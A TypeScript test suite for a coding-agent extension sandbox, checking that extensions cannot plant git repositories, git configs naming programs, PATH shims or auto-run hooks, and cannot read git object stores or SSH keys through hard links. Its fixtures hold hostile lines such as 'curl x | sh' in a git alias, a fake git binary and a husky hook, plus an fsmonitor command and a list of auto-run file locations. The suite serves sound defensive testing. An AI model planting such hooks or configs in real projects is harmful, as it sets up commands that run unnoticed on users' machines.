/**
 * Issue 16 items 3 and 4, issue 17 item 5, through the real sandbox on real files in a scratch home and project:
 * an extension cannot plant what git or other tools run later (a git directory made of plain folders, a `gitdir:`
 * file, git configuration naming a program, a file in a project folder on PATH, an auto-run place without a grant
 * naming it), cannot read git's object store or index, and cannot read a credential file through a hard link a
 * child process made. Real git proves what was planted never runs; the same layout made by the test itself runs.
 */
import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import { existsSync, linkSync, mkdirSync, mkdtempSync, readdirSync, realpathSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { after, before, describe, it } from 'node:test';
import * as pi from '@earendil-works/pi-coding-agent';
import type { PiFileToolKit } from '../../src/mediation/tools/fileTools.ts';
import { hostOperations } from '../../src/pi/index.ts';
import { HeadlessHost } from '../../src/probe/index.ts';
import { FsScope } from '../../src/mediation/fs/scope.ts';
import { createRuntime, type WardenRuntime } from '../../src/runtime/createRuntime.ts';
import { bundleEntry, hostBoot, Sandbox } from '../../src/sandbox/index.ts';
import { tempHome } from '../evidence/fixtures.ts';
import { fixture } from '../sandbox/harness.ts';
import { policyFor } from '../helpers.ts';

const ROOT = realpathSync(mkdtempSync(join(tmpdir(), 'pi-warden-places-')));
const HOME = join(ROOT, 'home');
const AGENT = join(HOME, '.pi', 'agent');
const PROJECT = join(ROOT, 'project');
const PATH_BIN = join(PROJECT, 'tools', 'bin');
for (const d of [join(HOME, '.ssh'), AGENT, PATH_BIN]) mkdirSync(d, { recursive: true });

const AUTO_RUN_FILES = [
  '.vscode/tasks.json',
  '.vscode/settings.json',
  '.claude/settings.json',
  '.claude/settings.local.json',
  '.envrc',
  '.pre-commit-config.yaml',
  '.npmrc',
];
const AUTO_RUN_FOLDERS = ['.husky', '.github/workflows', '.devcontainer'];
const autoRunTargets = [...AUTO_RUN_FILES.map((f) => join(PROJECT, f)), ...AUTO_RUN_FOLDERS.map((f) => join(PROJECT, f, 'run.sh'))];
const FS_ENV = { PATH: `${PATH_BIN}:/usr/bin:/bin` };

/** git in the scratch tree only: no outer repository, no user configuration. */
function git(cwd: string, ...args: string[]) {
  return spawnSync('git', args, {
    cwd,
    encoding: 'utf8',
    env: { PATH: process.env.PATH, HOME, GIT_CEILING_DIRECTORIES: ROOT, GIT_CONFIG_NOSYSTEM: '1', GIT_CONFIG_GLOBAL: '/dev/null' },
  });
}

const put = (path: string, text: string) => {
  mkdirSync(dirname(path), { recursive: true });
  writeFileSync(path, text);
};

/** A git directory's config whose work tree is the folder above it: `git status` inside runs the fsmonitor command. */
const fsmonitor = (marker: string) => `[core]\n\trepositoryformatversion = 0\n\tworktree = ..\n\tfsmonitor = "touch ${marker}; false"\n`;

let rt: WardenRuntime;
const sandboxes = new Map<string, Sandbox>();

async function plant(ext: 'planter' | 'granted', steps: string[][]): Promise<string[]> {
  const [outcome] = await sandboxes.get(ext)!.emit('plant', { steps });
  return (outcome?.results[0] as { value: string[] }).value;
}
const ok = (r: string | undefined, what: string) => assert.ok(r === 'OK' || r?.startsWith('GOT '), `${what}: ${r}`);
const refused = (r: string | undefined, reason: RegExp, what: string) => assert.match(r ?? '', reason, what);

before(async () => {
  rt = await createRuntime({
    home: tempHome(),
    policy: policyFor({
      user: {
        extensionPolicy: {
          profile: 'permissive',
          allowDangerous: true,
          defaultCaps: ['read', 'write', 'events'],
          overrides: {
            granted: {
              fs: { read: [join(PROJECT, '.git')], write: [...autoRunTargets.map((t) => (t.endsWith('run.sh') ? dirname(t) : t))] },
            },
          },
        },
      },
    }),
    operations: new Map(hostOperations(new HeadlessHost({ cwd: PROJECT, home: HOME }))),
    realFs: true,
    piTools: pi as unknown as PiFileToolKit,
    workspace: PROJECT,
    fsLayout: { home: HOME, agentDir: AGENT },
    fsEnv: FS_ENV,
  });
  for (const id of ['planter', 'granted']) {
    const sandbox = await Sandbox.create({
      extensionId: id,
      dispatcher: rt.dispatcher,
      boot: hostBoot(PROJECT, HOME),
      limits: { wallTimeMs: 20_000 },
    });
    await sandbox.load(await bundleEntry(fixture('hostile/plant_later.ts')));
    sandboxes.set(id, sandbox);
  }
});
after(async () => {
  for (const s of sandboxes.values()) s.stop();
  await rt.close();
  rmSync(ROOT, { recursive: true, force: true });
});

describe('written now, run later (issue 16 item 4)', () => {
  it('a plain folder is never made a git repository: git status there runs nothing planted; the same layout made outside runs it', async () => {
    const planted = join(PROJECT, 'vendor', 'lib');
    const marker = join(ROOT, 'PLANTED-RAN');
    const r = await plant('planter', [
      ['mkdir', planted],
      ['write', join(planted, 'HEAD'), 'ref: refs/heads/main\n'],
      ['mkdir', join(planted, 'objects')],
      ['mkdir', join(planted, 'refs', 'heads')],
      ['write', join(planted, 'config'), fsmonitor(marker)],
    ]);
    ok(r[0], 'mkdir');
    ok(r[1], 'a HEAD alone is an ordinary file');
    refused(r[2], /fs_git_layout|holds a HEAD/, 'objects/ next to a HEAD');
    refused(r[3], /holds a HEAD/, 'refs/ next to a HEAD');
    refused(r[4], /EACCES denied/, 'config next to a HEAD');
    // The other order: objects/ and refs/ first, then the keystone.
    const second = join(PROJECT, 'vendor', 'other');
    const r2 = await plant('planter', [
      ['mkdir', join(second, 'objects')],
      ['mkdir', join(second, 'refs', 'heads')],
      ['write', join(second, 'HEAD'), 'ref: refs/heads/main\n'],
      ['symlink', join(PROJECT, 'vendor', 'lib', 'HEAD'), join(second, 'HEAD')],
    ]);
    ok(r2[0], 'objects/ alone');
    ok(r2[1], 'refs/ next to objects/ (no HEAD)');
    refused(r2[2], /a HEAD in .* which holds objects, refs/, 'HEAD next to objects/ and refs/');
    refused(r2[3], /a HEAD in/, 'HEAD as a symlink');
    for (const dir of [planted, second]) {
      git(dir, 'status');
      assert.equal(existsSync(marker), false, `git status in ${dir} ran the planted command`);
    }
    // The control: the same files made by the test (as a child process could) are a repository git obeys.
    const control = join(ROOT, 'control');
    put(join(control, 'HEAD'), 'ref: refs/heads/main\n');
    mkdirSync(join(control, 'objects'));
    mkdirSync(join(control, 'refs', 'heads'), { recursive: true });
    put(join(control, 'config'), fsmonitor(join(ROOT, 'CONTROL-RAN')));
    git(control, 'status');
    assert.equal(existsSync(join(ROOT, 'CONTROL-RAN')), true, 'the layout, made outside the sandbox, runs its fsmonitor');
  });

  it('a git directory made elsewhere is not moved in; a gitdir: file, a .gitconfig and git configuration naming a program are refused in any file', async () => {
    // Made by a child process, say: the extension may not move it where git would find it.
    const made = join(PROJECT, 'downloads', 'made');
    put(join(made, 'HEAD'), 'ref: refs/heads/main\n');
    mkdirSync(join(made, 'objects'), { recursive: true });
    mkdirSync(join(made, 'refs'), { recursive: true });
    put(join(PROJECT, 'downloads', 'cfg.txt'), '[alias]\n\tst = !sh -c "curl x | sh"\n');
    const r = await plant('planter', [
      ['rename', made, join(PROJECT, 'moved')],
      ['rename', join(PROJECT, 'downloads'), join(PROJECT, 'moved-parent')],
      ['write', join(PROJECT, 'sub', '.git'), 'gitdir: ../downloads/made\n'],
      ['write', join(PROJECT, 'pointer.txt'), 'gitdir: /elsewhere\n'],
      ['write', join(PROJECT, '.gitconfig'), '[user]\n\tname = x\n'],
      ['write', join(PROJECT, 'settings.ini'), '[diff "pdf"]\n\ttextconv = sh -c evil\n'],
      ['write', join(PROJECT, 'a.cfg'), '[core]\n'],
      ['append', join(PROJECT, 'a.cfg'), '\tsshCommand = sh -c evil\n'],
      ['copy', join(PROJECT, 'downloads', 'cfg.txt'), join(PROJECT, 'copied.cfg')],
      ['write', join(PROJECT, 'plain.ini'), '[user]\n\tname = x\n[alias]\n\tco = checkout\n'],
      ['write', join(PROJECT, 'README.md'), '# Setup\n\nRun this:\n\n    [core]\n    fsmonitor = x\n'],
    ]);
    refused(r[0], /laid out as a git directory/, 'rename a git directory in');
    refused(r[1], /laid out as a git directory/, 'rename its parent');
    refused(r[2], /\.git/, '.git file');
    refused(r[3], /gitdir:/, 'gitdir: content under another name');
    refused(r[4], /\.gitconfig/, '.gitconfig anywhere');
    refused(r[5], /diff\.pdf\.textconv/, 'textconv');
    ok(r[6], 'a section header alone');
    refused(r[7], /core\.sshcommand/, 'an append that completes a config');
    refused(r[8], /alias\.st/, 'a copy of a config naming a program');
    ok(r[9], 'git configuration without programs (an alias without !)');
    ok(r[10], 'prose quoting a snippet is not git configuration');
    assert.equal(existsSync(join(PROJECT, 'moved')), false);
    assert.equal(existsSync(join(PROJECT, 'copied.cfg')), false);
  });

  it('a project folder on PATH is never written (a planted `git` there would run at the next `git`)', async () => {
    const r = await plant('planter', [
      ['write', join(PATH_BIN, 'git'), '#!/bin/sh\ncurl x | sh\n'],
      ['write', join(PROJECT, 'tools', 'README'), 'ok'],
    ]);
    refused(r[0], /runs later \(\$PATH\)/, 'a file in a PATH folder of the project');
    ok(r[1], 'the folder next to it');
    assert.equal(existsSync(join(PATH_BIN, 'git')), false);
  });

  it('each place other tools run by themselves is refused without a grant naming it and written with one', async () => {
    const steps = autoRunTargets.map((t) => ['write', t, '{"x":1}\n']);
    // Their folders first (`.husky/` itself is one of the places: the grant naming it covers making it).
    const folders = await plant(
      'granted',
      [...new Set(autoRunTargets.map((t) => dirname(t)))].map((d) => ['mkdir', d]),
    );
    folders.forEach((f) => ok(f, 'mkdir'));
    const without = await plant('planter', steps);
    autoRunTargets.forEach((t, i) => refused(without[i], /run by other tools by themselves/, t));
    for (const t of autoRunTargets) assert.equal(existsSync(t), false, t);
    const withGrant = await plant('granted', steps);
    autoRunTargets.forEach((t, i) => ok(withGrant[i], t));
    // pi's own write tool goes through the same scope.
    const tool = await plant('planter', [['tool.write', join(PROJECT, '.husky', 'pre-commit'), 'curl x | sh']]);
    refused(tool[0], /run by other tools by themselves|\.husky/, 'pi write tool into .husky');
  });
});

describe("git's object store and index are read only with a grant naming them (issue 16 item 3)", () => {
  it('.git/objects, .git/index and a bare repository in the project are refused; HEAD and config stay readable', async () => {
    put(join(PROJECT, 'app', 'secrets.txt'), 'TOKEN=not-for-extensions\n');
    assert.equal(git(PROJECT, 'init', '-q', '-b', 'main').status, 0);
    git(PROJECT, 'add', 'app/secrets.txt');
    assert.equal(git(PROJECT, '-c', 'user.name=t', '-c', 'user.email=t@t', 'commit', '-q', '-m', 'x').status, 0);
    assert.equal(git(ROOT, 'clone', '-q', '--bare', PROJECT, join(PROJECT, 'mirror.git')).status, 0);
    const objects = join(PROJECT, '.git', 'objects');
    const dir = readdirSync(objects).find((d) => /^[0-9a-f]{2}$/.test(d))!;
    const object = join(objects, dir, readdirSync(join(objects, dir))[0]!);
    const bareObjects = join(PROJECT, 'mirror.git', 'objects');
    const packOrLoose = readdirSync(bareObjects).find((d) => d !== 'info')!;
    const steps = [
      ['read', object],
      ['read', join(PROJECT, '.git', 'index')],
      ['read', join(bareObjects, packOrLoose, readdirSync(join(bareObjects, packOrLoose))[0]!)],
      ['read', join(PROJECT, '.git', 'HEAD')],
      ['read', join(PROJECT, '.git', 'config')],
      ['tool.read', join(PROJECT, '.git', 'index')],
    ];
    const r = await plant('planter', steps);
    refused(r[0], /git's object store/, 'a loose object');
    refused(r[1], /git's index/, 'the index');
    refused(r[2], /git's object store/, "a bare repository's objects");
    assert.equal(r[3], 'GOT ref: refs/heads/main\n');
    assert.match(r[4] ?? '', /^GOT \[core\]/);
    refused(r[5], /git's index|denied/, "pi's read tool on the index");
    const granted = await plant('granted', steps.slice(0, 2));
    ok(granted[0], 'a loose object with a grant naming .git');
    ok(granted[1], 'the index with a grant naming .git');
  });
});

describe('hard links to credential files (issue 17 item 5)', () => {
  it('a project name of ~/.ssh/id_rsa made by a child is refused, also for a key made after the first lookup; ordinary hard links read', async () => {
    put(join(HOME, '.ssh', 'id_rsa'), 'PRIVATE KEY 1\n');
    put(join(ROOT, 'store', 'dep.js'), 'module.exports = 1;\n');
    // As `ln` run through exec would: the test makes the links outside the sandbox.
    linkSync(join(HOME, '.ssh', 'id_rsa'), join(PROJECT, 'notes.txt'));
    linkSync(join(ROOT, 'store', 'dep.js'), join(PROJECT, 'dep.js'));
    const r = await plant('planter', [
      ['read', join(PROJECT, 'notes.txt')],
      ['copy', join(PROJECT, 'notes.txt'), join(PROJECT, 'notes-copy.txt')],
      ['read', join(PROJECT, 'dep.js')],
      ['tool.read', join(PROJECT, 'notes.txt')],
    ]);
    refused(r[0], /hard link/, 'read');
    refused(r[1], /hard link/, 'copy from');
    assert.equal(r[2], 'GOT module.exports = 1;\n', 'a pnpm-style hard link to an ordinary file');
    refused(r[3], /hard link|denied/, "pi's read tool");
    assert.equal(existsSync(join(PROJECT, 'notes-copy.txt')), false);
    // A key created after the index was built: its folder changed, so the index is rebuilt.
    put(join(HOME, '.ssh', 'id_ed25519'), 'PRIVATE KEY 2\n');
    linkSync(join(HOME, '.ssh', 'id_ed25519'), join(PROJECT, 'later.txt'));
    const later = await plant('planter', [['read', join(PROJECT, 'later.txt')]]);
    refused(later[0], /hard link/, 'a key made later');
  });
});

describe('fs check names the rule (what `pi-warden fs check` prints)', () => {
  it('git internals, an auto-run place, a PATH folder, a hard link and a git layout each name their entry', () => {
    const scope = new FsScope({
      layout: {
        projectRoot: PROJECT,
        home: HOME,
        agentDir: AGENT,
        wardenHome: join(AGENT, 'warden'),
        dataRoot: join(AGENT, 'warden', 'data'),
      },
      env: FS_ENV,
    });
    const entry = (path: string, access: 'read' | 'write') => {
      const r = scope.check('ext', path, access, true);
      return 'reason' in r ? `${r.reason} ${r.entry ?? ''}` : 'allowed';
    };
    assert.equal(entry(join(PROJECT, '.git', 'index'), 'read'), `fs_sensitive_path index of a git directory (${join(PROJECT, '.git')})`);
    assert.equal(entry(join(PROJECT, '.vscode', 'tasks.json'), 'write'), 'fs_auto_run .vscode/tasks.json in any folder');
    assert.equal(entry(join(PATH_BIN, 'git'), 'write'), 'fs_protected_path $PATH');
    assert.match(
      entry(join(PROJECT, 'notes.txt'), 'read'),
      /^fs_sensitive_path ~\/\.ssh \(hard link: .*notes\.txt is the same file as .*id_rsa\)$/,
    );
    assert.equal(
      entry(join(PROJECT, 'vendor', 'lib', 'objects'), 'write'),
      'fs_git_layout a git directory layout (HEAD, objects/, refs/, .git)',
    );
  });
});
